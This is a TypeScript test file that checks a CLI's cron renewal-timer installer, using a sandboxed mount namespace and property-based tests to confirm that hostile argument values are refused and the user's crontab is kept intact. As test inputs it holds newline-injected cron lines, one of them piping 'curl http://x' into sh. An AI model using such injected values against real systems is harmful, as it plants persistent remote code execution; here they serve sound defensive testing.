// The crontab writer against Debian's real crontab, in a private mount namespace whose /var/spool/cron is a
// copy (this machine's crontab is never touched): hostile --host and --on-renew values are refused with nothing
// written, the user's crontab comes back byte for byte, an unreadable spool is never written, and (fast-check)
// every value either is refused or reaches the command cron would run as exactly the argument it was.
import { execFileSync } from 'node:child_process';
import { cpSync, mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { installRenewTimer } from '../../src/certs/renew-timer.js';
import { UserError } from '../../src/core/errors.js';
import { LocalRunner } from '../../src/runners/local.js';
import { runCli } from '../helpers/cli.js';
import { missing, titled } from '../helpers/needs.js';
import { withTempDir } from '../helpers/tmp.js';

const why = missing({ root: true, commands: ['crontab', 'unshare', 'mount'] });
const USER = 'MAILTO=ops\n\n# backups, nightly\n0 1 * * * tar czf /b/$(date +\\%F).tgz /etc\n\n\n';

describe.skipIf(why)(titled('crontab lines through the real crontab', why), () => {
  let tmp: { dir: string; cleanup: () => Promise<void> };
  beforeAll(async () => { tmp = await withTempDir(); });
  afterAll(async () => { await tmp?.cleanup(); });

  /** A private spool: `prefix` runs a command with it mounted over /var/spool/cron, in its own mount namespace. */
  const spool = (name: string, broken = false) => {
    const dir = path.join(tmp.dir, name);
    mkdirSync(dir);
    if (broken) writeFileSync(path.join(dir, 'crontabs'), 'not a directory');
    else cpSync('/var/spool/cron', dir, { recursive: true });
    const prefix = ['unshare', '-m', '--propagation', 'private', 'sh', '-c', 'mount --bind "$0" /var/spool/cron && exec "$@"', dir];
    const sh = (argv: string[], input?: string) => execFileSync(prefix[0]!, [...prefix.slice(1), ...argv], { encoding: 'utf8', ...(input !== undefined ? { input } : {}) });
    return { prefix, list: () => { try { return sh(['crontab', '-l']); } catch { return '(none)'; } }, set: (text: string) => sh(['crontab', '-'], text) };
  };

  it('refuses a newline in --host or in an --on-renew argument, and leaves the crontab as it was', async () => {
    const s = spool('hostile');
    s.set(USER);
    const base = ['cert', 'renew', '--dir', '/etc/commbase-admin/acme', '--install-timer'];
    for (const extra of [['--host', 'web\n* * * * * id | sh'], ['--on-renew', 'systemctl', 'reload\n* * * * * curl http://x | sh'], ['--on-renew', 'a\rb'], ['--host', 'web\u2028x']]) {
      const r = await runCli([...base, ...extra], { prefix: s.prefix });
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toMatch(extra[0] === '--host' ? /invalid host/ : /invalid on-renew/);
      expect(s.list()).toBe(USER);
    }
    const ok = await runCli([...base, '--host', 'web', '--on-renew', '/bin/sh', '-c', 'echo 100% reloaded'], { prefix: s.prefix });
    expect(ok.code, ok.stderr).toBe(0);
    const after = s.list();
    expect(after.startsWith(USER)).toBe(true);
    expect(after.slice(USER.length).split('\n').filter(Boolean)).toHaveLength(1);
  });

  it('writes nothing when crontab -l fails for another reason than "no crontab"', async () => {
    const s = spool('broken', true);
    const r = await runCli(['cert', 'renew', '--dir', '/etc/acme', '--install-timer'], { prefix: s.prefix });
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toMatch(/failed to read the crontab .*nothing was written/);
    expect(r.stderr).toMatch(/not a directory/);
  });

  it('every --on-renew value is refused, or cron runs it as exactly that argument (fast-check)', async () => {
    const s = spool('property');
    s.set(USER);
    const runner = new LocalRunner({ prefix: s.prefix });
    // The "program" cron starts prints its argv as JSON, so what the shell made of the line is compared exactly.
    const self = ['/usr/bin/python3', '-c', 'import sys, json; print(json.dumps(sys.argv[1:]))'];
    let accepted = 0;
    await fc.assert(fc.asyncProperty(fc.array(fc.string({ unit: 'binary', maxLength: 20 }), { minLength: 1, maxLength: 3 }), async (args) => {
      let r: Awaited<ReturnType<typeof installRenewTimer>>;
      try {
        r = await installRenewTimer(runner, self, { dir: '/etc/acme', 'on-renew': args }, false);
      } catch (err) {
        expect(err).toBeInstanceOf(UserError);
        expect(s.list().startsWith(USER)).toBe(true);
        return;
      }
      accepted += 1;
      const tab = s.list();
      expect(tab.startsWith(USER)).toBe(true);
      const ours = tab.slice(USER.length).split('\n').filter(Boolean);
      expect(ours).toEqual([r.line]);
      // cron: the sixth field on is the command; an unescaped % would start its stdin, \% is a %.
      const command = r.line.split(' ').slice(5).join(' ');
      expect(command).not.toMatch(/(^|[^\\])%/);
      const out = execFileSync('/bin/sh', ['-c', command.replace(/\\%/g, '%').replace(' >/dev/null 2>&1', '')], { encoding: 'utf8' });
      expect(JSON.parse(out)).toEqual(['cert', 'renew', '--dir', '/etc/acme', '--on-renew', ...args]);
    }), { numRuns: 60 });
    expect(accepted).toBeGreaterThan(10);
  }, 120_000);
});
